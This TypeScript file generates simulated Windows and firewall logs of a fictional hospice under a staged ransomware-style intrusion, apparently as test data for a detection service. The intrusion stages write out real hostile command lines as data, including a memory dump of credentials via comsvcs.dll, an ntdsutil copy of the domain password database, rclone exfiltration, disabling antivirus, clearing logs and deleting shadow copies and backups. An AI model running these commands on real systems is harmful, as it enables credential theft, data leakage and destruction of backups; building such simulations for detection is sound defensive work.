import { Random } from '../records/random.ts';

/**
 * A made-up small hospice for a day, under attack: its Windows events as Winlogbeat sends them, and its firewall's lines.
 * Everything in it is named “sim”: no person, machine or company of it exists. Addresses are of the documentation ranges
 * (RFC 5737). The stages are those of the intrusions that UK healthcare has published (guessed remote access, discovery,
 * passwords, spread, data leaving, defences, destruction); the lines are our own.
 */
export interface SimulatedAttack {
  /** In the order of their times. */
  readonly windows: readonly object[];
  /** FortiGate's form. */
  readonly firewall: readonly string[];
  /** The same by hours, as a service is sent them. */
  readonly hours: readonly { readonly windows: readonly object[]; readonly firewall: readonly string[] }[];
  /** What the intruder did, in order: for whoever wants to compare. */
  readonly stages: readonly { readonly at: string; readonly host: string; readonly what: string }[];
}

const MINUTE_MS = 60_000;
const HOUR_MS = 60 * MINUTE_MS;
const DAY_MS = 24 * HOUR_MS;
const DOMAIN = 'SIM';
const WORKSTATIONS = 24;
const INTRUDER = '203.0.113.77';
const STOLEN = 'sim-physio-02';

const ADDRESSES = [
  ['sim-dc-1', '10.20.0.2'],
  ['sim-files-1', '10.20.0.8'],
  ['sim-backup-1', '10.20.0.9'],
] as const;

const PROGRAMS = [
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ''],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ' /n'],
  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', ' --type=renderer'],
  ['C:\\Program Files\\SimEPR\\simepr.exe', ' --ward'],
  ['C:\\Windows\\System32\\svchost.exe', ' -k netsvcs -p'],
  ['C:\\Windows\\System32\\backgroundTaskHost.exe', ' -ServerName:App'],
] as const;

/** @param end UTC ms: of the day; the intruder came in five hours before, and is not done yet */
export function simulateAttack({ seed, end }: { readonly seed: number; readonly end: number }): SimulatedAttack {
  const random = new Random(seed);
  const windows: Stamped[] = [];
  const firewall: { at: number; line: string }[] = [];
  quietDay(random, end, windows, firewall);
  const stages = intrusion(end, windows, firewall);
  // Nothing has happened yet that is still to come.
  const docs = windows.filter(({ at }) => at <= end).sort((a, b) => a.at - b.at);
  const lines = firewall.filter(({ at }) => at <= end).sort((a, b) => a.at - b.at);
  const begin = end - DAY_MS;
  const hours = Array.from({ length: 24 }, (_, hour) => {
    const isThen = ({ at }: { readonly at: number }) => Math.min(23, Math.floor((at - begin) / HOUR_MS)) === hour;
    return {
      windows: docs.filter(isThen).map(({ doc }) => doc),
      firewall: lines.filter(isThen).map(({ line }) => line),
    };
  });
  return { windows: docs.map(({ doc }) => doc), firewall: lines.map(({ line }) => line), hours, stages };
}

interface Stamped {
  readonly at: number;
  readonly doc: object;
}

function quietDay(random: Random, end: number, windows: Stamped[], firewall: { at: number; line: string }[]): void {
  const begin = end - DAY_MS;
  for (let number = 1; number <= WORKSTATIONS; number++) {
    const host = `sim-ws-${pad(number)}`;
    const account = number === 2 ? STOLEN : `sim-nurse-${pad(number)}`;
    windows.push(signIn(begin + random.below(90) * MINUTE_MS, host, account, '2', '-'));
    for (let at = begin; at < end - HOUR_MS / 2; at += (10 + random.below(30)) * MINUTE_MS) {
      const [image, rest] = PROGRAMS[random.below(PROGRAMS.length)] ?? PROGRAMS[0];
      windows.push(
        started(at + random.below(HOUR_MS / 4), host, account, image, `"${image}"${rest}`, 'C:\\Windows\\explorer.exe'),
      );
    }
    if (random.chance(0.3))
      firewall.push(tunnel(begin + random.below(8 * HOUR_MS), account, `198.51.100.${10 + number}`, true));
  }
  // Each machine asks for a ticket when it starts, and before that runs out.
  const machines = [...ADDRESSES, ...Array.from({ length: WORKSTATIONS }, (_, at) => workstation(at + 1))];
  for (const [host, address] of machines)
    for (let at = begin + random.below(HOUR_MS); at < end; at += 9 * HOUR_MS) windows.push(ticket(at, host, address));
  for (let at = begin; at < end; at += HOUR_MS)
    windows.push(
      signIn(at + random.below(HOUR_MS), 'sim-files-1', 'sim-backup-service', '3', '10.20.0.9'),
      started(
        at,
        'sim-dc-1',
        'SYSTEM',
        'C:\\Windows\\System32\\svchost.exe',
        'svchost.exe -k netsvcs -p',
        'C:\\Windows\\System32\\services.exe',
      ),
    );
}

function intrusion(
  end: number,
  windows: Stamped[],
  firewall: { at: number; line: string }[],
): SimulatedAttack['stages'] {
  const stages: { at: string; host: string; what: string }[] = [];
  const ago = (hours: number, minutes: number) => end - hours * HOUR_MS - minutes * MINUTE_MS;
  const stage = (at: number, host: string, what: string) => stages.push({ at: iso(at), host, what });
  const cmd = 'C:\\Windows\\System32\\cmd.exe';
  const run = (at: number, host: string, account: string, image: string, line: string) =>
    windows.push(started(at, host, account, image, line, cmd));

  // Five hours ago: the password of a physiotherapist's account is guessed, on a remote access without a second factor.
  stage(ago(5, 10), 'sim-fw-1', 'guesses a password of the remote access');
  for (let tries = 0; tries < 18; tries++) firewall.push(tunnel(ago(5, 10) + tries * 20_000, STOLEN, INTRUDER, false));
  firewall.push(tunnel(ago(5, 4), STOLEN, INTRUDER, true));
  windows.push(signIn(ago(5, 2), 'sim-ws-02', STOLEN, '10', '10.20.9.77'));

  stage(ago(4, 50), 'sim-ws-02', 'looks around');
  const looks = [
    'whoami /all',
    'net group "domain admins" /domain',
    'nltest /dclist:sim',
    'nltest /domain_trusts',
    'net view /domain',
    'ipconfig /all',
    'systeminfo',
  ];
  looks.forEach((line, index) => {
    const program = line.split(' ')[0] ?? '';
    run(ago(4, 50) + index * 40_000, 'sim-ws-02', STOLEN, `C:\\Windows\\System32\\${program}.exe`, line);
  });

  stage(ago(4, 20), 'sim-ws-02', 'takes passwords out of memory');
  run(
    ago(4, 20),
    'sim-ws-02',
    STOLEN,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\in\\l.dmp full',
  );

  stage(ago(3, 40), 'sim-files-1', 'comes to the file server as an administrator');
  windows.push(signIn(ago(3, 40), 'sim-files-1', 'sim-it-admin', '3', '10.20.1.2'));
  windows.push(service(ago(3, 39), 'sim-files-1', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'));
  run(
    ago(3, 36),
    'sim-files-1',
    'sim-it-admin',
    'C:\\in\\advanced_ip_scanner.exe',
    'C:\\in\\advanced_ip_scanner.exe /portable C:/in/ /lng en_us',
  );

  stage(ago(2, 50), 'sim-dc-1', 'copies the file that holds every password');
  windows.push(signIn(ago(2, 55), 'sim-dc-1', 'sim-it-admin', '3', '10.20.1.2'));
  run(
    ago(2, 50),
    'sim-dc-1',
    'sim-it-admin',
    'C:\\Windows\\System32\\ntdsutil.exe',
    'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\out\\n" q q',
  );

  stage(ago(1, 50), 'sim-files-1', 'sends patients’ files away');
  run(
    ago(1, 55),
    'sim-files-1',
    'sim-it-admin',
    'C:\\Program Files\\7-Zip\\7z.exe',
    '7z.exe a -p -mhe C:\\out\\letters.7z D:\\Letters',
  );
  run(
    ago(1, 50),
    'sim-files-1',
    'sim-it-admin',
    'C:\\in\\rclone.exe',
    'rclone.exe copy C:\\out sim:files --transfers 20 --no-check-certificate',
  );
  firewall.push(traffic(ago(1, 45), '10.20.0.8', '198.51.100.200', 19_400_000_000));

  stage(ago(0, 40), 'sim-files-1', 'switches the antivirus off');
  run(
    ago(0, 40),
    'sim-files-1',
    'sim-it-admin',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
  );
  run(ago(0, 36), 'sim-files-1', 'sim-it-admin', 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security');

  stage(ago(0, 25), 'sim-backup-1', 'destroys the backups');
  windows.push(signIn(ago(0, 30), 'sim-backup-1', 'sim-it-admin', '3', '10.20.1.2'));
  run(
    ago(0, 25),
    'sim-backup-1',
    'sim-it-admin',
    'C:\\Windows\\System32\\vssadmin.exe',
    'vssadmin delete shadows /all /quiet',
  );
  run(
    ago(0, 24),
    'sim-backup-1',
    'sim-it-admin',
    'C:\\Windows\\System32\\wbadmin.exe',
    'wbadmin delete catalog -quiet',
  );
  run(
    ago(0, 23),
    'sim-backup-1',
    'sim-it-admin',
    'C:\\Windows\\System32\\bcdedit.exe',
    'bcdedit /set {default} recoveryenabled no',
  );
  for (const [index, name] of ['VeeamBackupSvc', 'SQLWriter', 'VSS'].entries())
    run(
      ago(0, 21) + index * 5000,
      'sim-backup-1',
      'sim-it-admin',
      'C:\\Windows\\System32\\net.exe',
      `net stop ${name} /y`,
    );
  return stages;
}

function event(
  at: number,
  host: string,
  channel: string,
  provider: string,
  id: number,
  data: Readonly<Record<string, string>>,
): Stamped {
  const own = `${host}.sim.example`;
  const winlog = { channel, provider_name: provider, event_id: String(id), computer_name: own, event_data: data };
  return { at, doc: { '@timestamp': iso(at), host: { name: own }, winlog } };
}

function started(at: number, host: string, account: string, image: string, line: string, parent: string): Stamped {
  return event(at, host, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, {
    UtcTime: iso(at).replace('T', ' ').replace('Z', ''),
    Image: image,
    OriginalFileName: image.split('\\').at(-1) ?? '',
    CommandLine: line,
    User: `${DOMAIN}\\${account}`,
    ParentImage: parent,
    ParentCommandLine: parent,
  });
}

function signIn(at: number, host: string, account: string, type: string, address: string): Stamped {
  return event(at, host, 'Security', 'Microsoft-Windows-Security-Auditing', 4624, {
    TargetUserName: account,
    TargetDomainName: DOMAIN,
    LogonType: type,
    IpAddress: address,
    WorkstationName: host.toUpperCase(),
  });
}

function ticket(at: number, host: string, address: string): Stamped {
  return event(at, 'sim-dc-1', 'Security', 'Microsoft-Windows-Security-Auditing', 4768, {
    TargetUserName: `${host.toUpperCase()}$`,
    TargetDomainName: DOMAIN,
    ServiceName: 'krbtgt',
    Status: '0x0',
    TicketEncryptionType: '0x12',
    IpAddress: `::ffff:${address}`,
  });
}

function workstation(number: number): readonly [host: string, address: string] {
  return [`sim-ws-${pad(number)}`, `10.20.1.${number}`];
}

function service(at: number, host: string, name: string, image: string): Stamped {
  return event(at, host, 'System', 'Service Control Manager', 7045, {
    ServiceName: name,
    ImagePath: image,
    ServiceType: 'user mode service',
    StartType: 'demand start',
    AccountName: 'LocalSystem',
  });
}

function tunnel(at: number, account: string, from: string, isIn: boolean): { at: number; line: string } {
  const result = isIn
    ? 'action="tunnel-up" tunneltype="ssl-tunnel" msg="SSL tunnel established"'
    : 'action="ssl-login-fail" reason="sslvpn_login_permission_denied"';
  return {
    at,
    line: `${head(at, isIn ? '0101039424' : '0101039426', 'event', 'vpn')} ${result} remip=${from} user="${account}"`,
  };
}

function traffic(at: number, from: string, to: string, bytes: number): { at: number; line: string } {
  return {
    at,
    line: `${head(at, '0000000013', 'traffic', 'forward')} srcip=${from} srcport=50122 dstip=${to} dstport=443 proto=6 action="close" sentbyte=${bytes} rcvdbyte=912000`,
  };
}

function head(at: number, id: string, type: string, subtype: string): string {
  const [day = '', time = ''] = iso(at).split('T');
  return `<189>date=${day} time=${time.slice(0, 8)} eventtime=${at * 1_000_000} tz="+0000" devname="sim-fw-1" devid="FGTSIM0000000001" logid="${id}" type="${type}" subtype="${subtype}"`;
}

function iso(at: number): string {
  return new Date(at).toISOString();
}

function pad(number: number): string {
  return String(number).padStart(2, '0');
}
